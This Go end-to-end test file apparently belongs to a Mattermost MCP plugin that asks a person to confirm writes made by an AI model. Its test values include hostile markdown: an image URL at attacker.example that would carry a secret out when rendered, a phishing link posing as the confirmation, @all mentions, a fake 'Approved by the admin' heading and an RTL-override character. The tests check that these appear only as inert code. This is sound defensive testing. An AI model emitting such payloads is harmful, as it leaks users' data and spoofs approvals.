package e2e

import (
	"context"
	"encoding/json"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mattermost/mattermost/server/public/model"

	"github.com/mcp-server/mattermost-plugin-mcp/e2e/harness"
	"github.com/mcp-server/mattermost-plugin-mcp/server/approval"
	"github.com/mcp-server/mattermost-plugin-mcp/server/config"
	"github.com/mcp-server/mattermost-plugin-mcp/server/tools"
)

// Nothing the model writes may act before the person answers: what
// Mattermost would refuse is refused before anyone is asked, and every
// value the model chose reaches the bot's direct message as code, so the
// person's Mattermost renders no image and no link of the model's when the
// message arrives.

const attacker = "https://attacker.example"

// Values full of markdown: an image whose address carries a secret, a link
// posing as the confirmation, a mention of everyone, a fence, new lines.
var (
	hostileLine  = "![a](" + attacker + "/p.png?d=SECRET) @all"
	hostileLink  = "[Open the confirmation](" + attacker + "/phish)"
	hostileLines = "x: ![a](" + attacker + "/p.png?d=SECRET) :x\n```\n" + hostileLink + " @all\n```\n# Approved by the admin"
)

var backtickRun = regexp.MustCompile("`+")

// withoutCode is a message's raw text without its fenced blocks and code
// spans: what Mattermost renders as markdown.
func withoutCode(msg string) string {
	var lines []string
	fence := ""
	for _, line := range strings.Split(msg, "\n") {
		switch {
		case fence == "" && strings.HasPrefix(line, "```"):
			fence = strings.TrimRight(line, " ")
		case fence != "" && strings.TrimRight(line, " ") == fence:
			fence = ""
		case fence == "":
			lines = append(lines, line)
		}
	}
	text := strings.Join(lines, "\n")
	var b strings.Builder
	for {
		open := backtickRun.FindStringIndex(text)
		if open == nil {
			b.WriteString(text)
			return b.String()
		}
		run := text[open[0]:open[1]]
		rest := text[open[1]:]
		closing := -1
		for _, m := range backtickRun.FindAllStringIndex(rest, -1) {
			if m[1]-m[0] == len(run) {
				closing = m[1]
				break
			}
		}
		if closing < 0 {
			b.WriteString(text)
			return b.String()
		}
		b.WriteString(text[:open[0]])
		text = rest[closing:]
	}
}

// inertDM checks a message of the bot's, read back through REST: its only
// link is want (the page, or none), the model's address stands only in
// code, and Mattermost made no preview or image of anything in it.
func inertDM(t *testing.T, u harness.User, postID, what string, want ...string) string {
	t.Helper()
	p, _, err := mm.Client(u).GetPost(context.Background(), postID, "")
	if err != nil {
		t.Fatal(err)
	}
	if links := approval.LinkTargets(p.Message); strings.Join(links, " ") != strings.Join(want, " ") {
		t.Errorf("%s: the bot's message links %q, want only %q:\n%s", what, links, want, p.Message)
	}
	if strings.Contains(withoutCode(p.Message), attacker) {
		t.Errorf("%s: the model's address stands outside code in the bot's message:\n%s", what, p.Message)
	}
	if md := p.Metadata; md != nil {
		for _, e := range md.Embeds {
			t.Errorf("%s: Mattermost embeds %+v in the bot's message", what, e)
		}
		for img := range md.Images {
			t.Errorf("%s: Mattermost shows the image %s in the bot's message", what, img)
		}
	}
	return p.Message
}

// waitNewPending polls u's confirmations for a pending one not in seen.
func waitNewPending(t *testing.T, u harness.User, seen map[string]bool) string {
	t.Helper()
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		_, body := get(t, http.DefaultClient, apiOf(mm.URL), u.Token)
		var list struct {
			Confirmations []struct{ ID, State string }
		}
		if err := json.Unmarshal([]byte(body), &list); err != nil {
			t.Fatalf("pending list %q: %v", body, err)
		}
		for _, c := range list.Confirmations {
			if c.State == "pending" && !seen[c.ID] {
				seen[c.ID] = true
				return c.ID
			}
		}
	}
	t.Fatal("no new pending write appeared")
	return ""
}

func confirmationCount(t *testing.T, u harness.User) int {
	t.Helper()
	_, body := get(t, http.DefaultClient, apiOf(mm.URL), u.Token)
	var list struct{ Confirmations []struct{ ID string } }
	if err := json.Unmarshal([]byte(body), &list); err != nil {
		t.Fatalf("pending list %q: %v", body, err)
	}
	return len(list.Confirmations)
}

func TestEveryWriteThatWaitsTellsThePersonWithTheModelsValuesAsCodeAndNoLinkButItsPage(t *testing.T) {
	allowWrites(t, config.ConfirmMattermost)
	notifyByDM(t, true)
	erin, err := mm.CreateUser(uniq(t, "erin"))
	if err != nil {
		t.Fatal(err)
	}
	bob := mm.Users[1]
	ctx := context.Background()
	// Names others wrote reach the message too: a channel named with
	// markdown, posts full of it.
	ch := createChannel(t, erin, uniq(t, "inert"), hostileLine, model.ChannelTypeOpen)
	other := createChannel(t, mm.Admin, uniq(t, "open"), hostileLink, model.ChannelTypeOpen)
	own := createPost(t, erin, ch.Id, hostileLines, "")
	pinned := createPost(t, erin, ch.Id, hostileLines, "")
	doomed := createPost(t, erin, ch.Id, hostileLines, "")
	c := connect(t, mm.URL, erin.Token)
	// schedule_post is offered only on a licensed server (the unit tests
	// cover its message).

	cases := []struct {
		tool string
		args map[string]any
	}{
		{"create_post", map[string]any{"channel": ch.Id, "message": hostileLines,
			"files": []map[string]any{{"name": "[x](attacker.example) ![i](p.png) @all.txt", "content": hostileLines}}}},
		{"dm", map[string]any{"user": "@" + bob.Username, "message": hostileLines}},
		{"update_post", map[string]any{"post_id": own.Id, "message": hostileLines}},
		{"add_reaction", map[string]any{"post_id": own.Id, "emoji_name": "thumbsup"}},
		{"delete_post", map[string]any{"post_id": doomed.Id}},
		{"pin_post", map[string]any{"post_id": pinned.Id}},
		{"join_channel", map[string]any{"channel": other.Id}},
		{"leave_channel", map[string]any{"channel": ch.Id}},
		{"create_channel", map[string]any{"display_name": hostileLine, "name": uniq(t, "made"), "purpose": hostileLines, "header": hostileLines}},
		{"add_channel_members", map[string]any{"channel": ch.Id, "users": []string{"@" + bob.Username}}},
		{"set_status", map[string]any{"status": "away", "custom_text": hostileLink, "custom_emoji": "palm_tree"}},
	}
	seen := map[string]bool{}
	for _, tc := range cases {
		done := postAsyncWith(c, tc.tool, tc.args)
		id := waitNewPending(t, erin, seen)
		dm := botDMAbout(t, erin, id, anyMessage)
		inertDM(t, erin, dm.Id, tc.tool+" waiting", pageOf(id))

		// The page shows the model's values escaped and loads nothing
		// from elsewhere.
		_, page := get(t, browser(t, erin), pageOf(id), "")
		if strings.Contains(page, `src="`+attacker) || strings.Contains(page, "<img src=\"http") {
			t.Errorf("%s: the page loads an image of the model's:\n%s", tc.tool, page)
		}
		if tc.tool == "create_channel" && !strings.Contains(page, `<code class="by-ai" title="Written by the AI">`+htmlEscape(hostileLine)+`</code>`) {
			t.Errorf("create_channel: the page's heading does not show the name as the model's:\n%s", page)
		}

		answerOnPage(t, erin, id, "decline", "")
		if res, _ := waitTool(t, done); !res.IsError {
			t.Errorf("%s: a declined write answered %s", tc.tool, text(res))
		}
		botPostBecomes(t, erin, dm.Id, contains("Declined"))
		inertDM(t, erin, dm.Id, tc.tool+" declined")
	}
	if p, _, err := mm.Client(erin).GetPost(ctx, own.Id, ""); err != nil || p.Message != hostileLines {
		t.Fatalf("a declined edit changed the post: %v %v", p, err)
	}
}

func htmlEscape(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&#34;", "'", "&#39;").Replace(s)
}

func TestWhatMattermostWouldRefuseOfTheModelsValuesIsRefusedBeforeAnyoneIsAskedNamingTheAllowedForm(t *testing.T) {
	allowWrites(t, config.ConfirmMattermost)
	erin, err := mm.CreateUser(uniq(t, "erin"))
	if err != nil {
		t.Fatal(err)
	}
	ch := createChannel(t, erin, uniq(t, "refuse"), "Refusals", model.ChannelTypeOpen)
	post := createPost(t, erin, ch.Id, "react to me", "")
	c := connect(t, mm.URL, erin.Token)
	taken := uniq(t, "taken")
	for _, tc := range []struct {
		tool string
		args map[string]any
		says []string
	}{
		{"add_reaction", map[string]any{"post_id": post.Id, "emoji_name": "x: ![a](" + attacker + "/p.png?d=SECRET) :x"}, []string{"not an emoji name", "letters, digits, _, + and -"}},
		{"add_reaction", map[string]any{"post_id": post.Id, "emoji_name": "x\n# Approved"}, []string{"not an emoji name"}},
		{"add_reaction", map[string]any{"post_id": post.Id, "emoji_name": "no_such_emoji_" + taken}, []string{"there is no emoji", "list_emoji"}},
		{"remove_reaction", map[string]any{"post_id": post.Id, "emoji_name": "no_such_emoji_" + taken}, []string{"there is no emoji"}},
		{"create_channel", map[string]any{"display_name": "two\nlines", "name": taken}, []string{"display_name holds a line break", "one line of at most 64 characters"}},
		{"create_channel", map[string]any{"display_name": strings.Repeat("x", 65), "name": taken}, []string{"65 characters; mattermost takes at most 64"}},
		{"create_channel", map[string]any{"display_name": "Fine", "name": taken, "purpose": strings.Repeat("p", 251)}, []string{"purpose is 251 characters"}},
		{"create_channel", map[string]any{"display_name": "Fine", "name": taken, "header": "a\u202eb"}, []string{"u+202e", "no other control or invisible characters"}},
		{"create_channel", map[string]any{"display_name": "Fine", "name": "![a](x)"}, []string{"cannot be a channel's address", "lowercase letters, digits, - and _"}},
		{"set_status", map[string]any{"custom_text": "on\nholiday"}, []string{"custom_text holds a line break"}},
		{"set_status", map[string]any{"custom_text": strings.Repeat("s", 101)}, []string{"custom_text is 101 characters"}},
		{"set_status", map[string]any{"custom_text": "away", "custom_emoji": "no_such_emoji_" + taken}, []string{"there is no emoji"}},
	} {
		res := call(t, c, tc.tool, tc.args)
		got := strings.ToLower(text(res))
		if !res.IsError {
			t.Errorf("%s %v was not refused: %s", tc.tool, tc.args, got)
			continue
		}
		for _, s := range tc.says {
			if !strings.Contains(got, strings.ToLower(s)) {
				t.Errorf("%s %v: the refusal does not say %q: %s", tc.tool, tc.args, s, got)
			}
		}
	}
	if n := confirmationCount(t, erin); n != 0 {
		t.Fatalf("%d refused writes were asked", n)
	}
	if _, resp, err := mm.Client(mm.Admin).GetChannelByName(context.Background(), taken, mm.Team.Id, ""); err == nil || resp.StatusCode != http.StatusNotFound {
		t.Fatalf("a refused create made the channel: %v", err)
	}
	noBotDMAbout(t, erin, "attacker.example")
}

func TestACustomEmojiOfTheServerIsAReactionThePersonIsAskedAbout(t *testing.T) {
	erin, err := mm.CreateUser(uniq(t, "erin"))
	if err != nil {
		t.Fatal(err)
	}
	_, yes, asked := askers(t, erin)
	ch := createChannel(t, erin, uniq(t, "kites"), "Kites", model.ChannelTypeOpen)
	post := createPost(t, erin, ch.Id, "a kite", "")
	name := createEmoji(t, uniq(t, "kite")).Name
	q := accepted(t, yes, asked, "add_reaction", map[string]any{"post_id": post.Id, "emoji_name": ":" + name + ":"})
	shows(t, q, "“:"+name+":”")
	rs, _, err := mm.Client(erin).GetReactions(context.Background(), post.Id)
	if err != nil || len(rs) != 1 || rs[0].EmojiName != name || rs[0].UserId != erin.ID {
		t.Fatalf("the reactions after the accept: %+v %v", rs, err)
	}
}

func TestAReactionAcceptedInTheClientsFormNamesItsEmojiInTheAnswerAndTheStructuredResult(t *testing.T) {
	erin, err := mm.CreateUser(uniq(t, "erin"))
	if err != nil {
		t.Fatal(err)
	}
	_, yes, _ := askers(t, erin)
	ch := createChannel(t, erin, uniq(t, "cheers"), "Cheers", model.ChannelTypeOpen)
	post := createPost(t, erin, ch.Id, "we shipped", "")
	for _, tc := range []struct{ tool, says string }{
		{"add_reaction", "Added :tada: to the post"},
		{"remove_reaction", "Removed :tada: from the post"},
	} {
		res := call(t, yes, tc.tool, map[string]any{"post_id": post.Id, "emoji_name": "tada"})
		var out tools.WriteResult
		structuredAs(t, res, &out)
		if res.IsError || !strings.Contains(text(res), tc.says) || out.Emoji != "tada" || out.State != "posted" {
			t.Fatalf("%s answered %q, structured %+v", tc.tool, text(res), out)
		}
		rs, _, err := mm.Client(erin).GetReactions(context.Background(), post.Id)
		if err != nil || (tc.tool == "add_reaction") != (len(rs) == 1 && rs[0].EmojiName == "tada") {
			t.Fatalf("after %s the reactions are %+v %v", tc.tool, rs, err)
		}
	}
}

func TestTheClientsQuestionHoldsTheModelsLinesInsideItsFrame(t *testing.T) {
	erin, err := mm.CreateUser(uniq(t, "erin"))
	if err != nil {
		t.Fatal(err)
	}
	allowWrites(t, config.ConfirmClientThenMattermost)
	p := &person{answer: respond(mcp.ElicitationResponseActionDecline)}
	no := connectAsking(t, mm.URL, erin.Token, "", formOnly, p)
	ch := createChannel(t, erin, uniq(t, "framed"), "Framed", model.ChannelTypeOpen)
	name := uniq(t, "framed-new")
	for _, tc := range []struct {
		tool string
		args map[string]any
	}{
		{"create_post", map[string]any{"channel": ch.Id, "message": hostileLines}},
		{"create_channel", map[string]any{"display_name": hostileLine, "name": name, "purpose": hostileLines, "header": hostileLines}},
		{"set_status", map[string]any{"custom_text": hostileLink}},
	} {
		declined(t, no, tc.tool, tc.args)
	}
	qs := p.asked()
	if len(qs) != 3 {
		t.Fatalf("%d questions were asked", len(qs))
	}
	for _, q := range qs {
		frame := ""
		for _, line := range strings.Split(q.Message, "\n") {
			switch {
			case frame == "" && strings.HasPrefix(line, "----- ") && strings.HasSuffix(line, " -----"):
				frame = strings.TrimSuffix(strings.TrimPrefix(line, "----- "), " -----")
			case frame != "" && line == "----- end of "+frame+" -----":
				frame = ""
			case frame == "" && (line == "# Approved by the admin" || line == "```" || strings.HasPrefix(line, hostileLink)):
				t.Errorf("a line of the model's stands outside the frame: %q\n%s", line, q.Message)
			}
		}
		if frame != "" {
			t.Errorf("the frame %q never closes:\n%s", frame, q.Message)
		}
	}
	if !strings.Contains(qs[1].Message, "Create the public channel “"+hostileLine+"” in") {
		t.Errorf("the create question does not quote the model's name in its heading:\n%s", qs[1].Message)
	}
}
